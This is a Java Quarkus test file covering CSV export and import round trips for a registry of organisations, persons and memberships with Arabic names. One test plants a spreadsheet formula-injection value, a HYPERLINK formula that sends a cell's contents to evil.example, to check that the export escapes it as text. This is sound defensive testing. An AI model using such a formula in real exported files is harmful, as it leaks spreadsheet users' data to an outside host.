package org.liaison.orgs.popolo;

import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import io.restassured.response.ValidatableResponse;
import jakarta.inject.Inject;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.liaison.infra.testing.TestTokens;

import java.io.IOException;
import java.io.StringReader;
import java.util.ArrayList;
import java.util.List;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.empty;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;

/** CSV export → import into an empty database gives the same data, table by table. */
@QuarkusTest
@TestProfile(PrivateDatabase.class)
class CsvRoundTripTest {

    @Inject
    PopoloTables tables;

    @BeforeEach
    void emptyDatabase() {
        tables.wipe();
    }

    @Test
    void organisationsExportedAsCsvImportIntoAnEmptyDatabaseAsTheyWere() throws IOException {
        PopoloFixtures.registerArticles();
        String csv = exportCsv("organizations");
        List<List<String>> before = withoutTimestamps(csv);
        assertEquals(12, before.size());
        assertEquals("id", before.get(0).get(0));
        List<String> office = row(before, "مكتب التنسيق والعلاقات العامة المحلية والدولية");
        assertEquals("روحي | مدني | علاقات عامة", office.get(before.get(0).indexOf("domains")));
        assertEquals("[{\"name\":\"مكتب التنسيق والعلاقات المحلية والدولية للعلويين\",\"note\":\"headline name\"}]",
                office.get(before.get(0).indexOf("other_names")));

        tables.wipe();
        importCsv("organizations", csv).statusCode(200).body("created.organizations", equalTo(11))
                .body("rejected", empty());
        assertEquals(before, withoutTimestamps(exportCsv("organizations")));

        long outbox = tables.outboxRows();
        importCsv("organizations", csv).statusCode(200).body("matched.organizations", equalTo(11))
                .body("rejected", empty());
        assertEquals(outbox, tables.outboxRows());
    }

    @Test
    void allThreeTablesTogetherGiveTheSamePopoloExport() {
        PopoloFixtures.registerArticles();
        String organizations = exportCsv("organizations");
        String persons = exportCsv("persons");
        String memberships = exportCsv("memberships");
        var before = PopoloFixtures.withoutTimestamps(PopoloFixtures.exportPopolo());

        tables.wipe();
        importCsv("organizations", organizations).statusCode(200).body("created.organizations", equalTo(11));
        importCsv("persons", persons).statusCode(200).body("created.persons", equalTo(5));
        importCsv("memberships", memberships).statusCode(200).body("created.memberships", equalTo(6));
        assertEquals(before, PopoloFixtures.withoutTimestamps(PopoloFixtures.exportPopolo()));
    }

    @Test
    void l1_aFormulaInACellIsExportedAsTextAndImportedAsItWas() throws IOException {
        String formula = "=HYPERLINK(\"https://evil.example/?\"&B2,\"open\")";
        given().auth().oauth2(TestTokens.admin()).contentType("application/json")
                .body("{\"kind\": \"platform\", \"nameAr\": \"الذاكرة السورية\", \"nameEn\": \""
                        + formula.replace("\"", "\\\"") + "\"}")
                .post("/organizations").then().statusCode(201);
        String csv = exportCsv("organizations");
        List<List<String>> before = withoutTimestamps(csv);
        String cell = row(before, "الذاكرة السورية").get(before.get(0).indexOf("name_en"));
        assertEquals("'" + formula, cell, "a spreadsheet shows it as text and does not run it");

        tables.wipe();
        importCsv("organizations", csv).statusCode(200).body("created.organizations", equalTo(1));
        given().auth().oauth2(TestTokens.admin()).queryParam("q", "الذاكرة السورية").get("/organizations")
                .then().statusCode(200).body("items[0].nameEn", equalTo(formula));
        assertEquals(before, withoutTimestamps(exportCsv("organizations")));
    }

    @Test
    void aBadRowIsRejectedWithItsColumnAndTheOthersImported() {
        String csv = """
                id,kind,name_ar,name_en,short_names,founding_date,other_names\r
                baytna,civil_society_organization,بيتنا,Baytna,,2013,\r
                memory,memory_platform,الذاكرة السورية,Syrian Memory,,,\r
                madaniya,initiative,مدنية,Madaniya,مدنية | Madaniya,2023-13,\r
                day-after,civil_society_organization,اليوم التالي,The Day After,,,"[{""name"": 5}]"\r
                """;
        importCsv("organizations", csv).statusCode(200)
                .body("created.organizations", equalTo(1))
                .body("rejected[0].id", equalTo("memory"))
                .body("rejected[0].index", equalTo(1))
                .body("rejected[0].errors[0].field", equalTo("kind"))
                .body("rejected[1].errors[0].field", equalTo("founding_date"))
                .body("rejected[2].errors[0].field", equalTo("other_names"));
    }

    @Test
    void aFileWithAnUnknownColumnOrTableIsRefusedWhole() {
        importCsv("organizations", "id,kind,name_ar,colour\r\nx,council,مسد,red\r\n").statusCode(400)
                .contentType("application/problem+json").body("errors[0].field", equalTo("colour"));
        importCsv("meetings", "id\r\n").statusCode(404);
        importCsv("organizations", "id,\"kind\r\n").statusCode(400).body("detail", startsWith("not well-formed CSV"));
        given().auth().oauth2(TestTokens.admin()).get("/export/csv/meetings").then().statusCode(404);
    }

    private static String exportCsv(String table) {
        return given().auth().oauth2(TestTokens.admin()).get("/export/csv/" + table)
                .then().statusCode(200).contentType(containsString("text/csv")).extract().asString();
    }

    private static ValidatableResponse importCsv(String table, String csv) {
        return given().auth().oauth2(TestTokens.admin()).contentType("text/csv; charset=UTF-8").body(csv)
                .post("/import/csv/" + table).then();
    }

    /** The rows (header first) without created_at and updated_at, which an import sets anew. */
    private static List<List<String>> withoutTimestamps(String csv) throws IOException {
        List<List<String>> rows = new ArrayList<>();
        for (CSVRecord record : CSVFormat.RFC4180.parse(new StringReader(csv))) {
            List<String> cells = new ArrayList<>(record.toList());
            rows.add(cells.subList(0, cells.size() - 2));
        }
        return rows;
    }

    private static List<String> row(List<List<String>> rows, String nameAr) {
        int column = rows.get(0).indexOf("name_ar");
        return rows.stream().filter(r -> r.get(column).equals(nameAr)).findFirst().orElseThrow();
    }
}
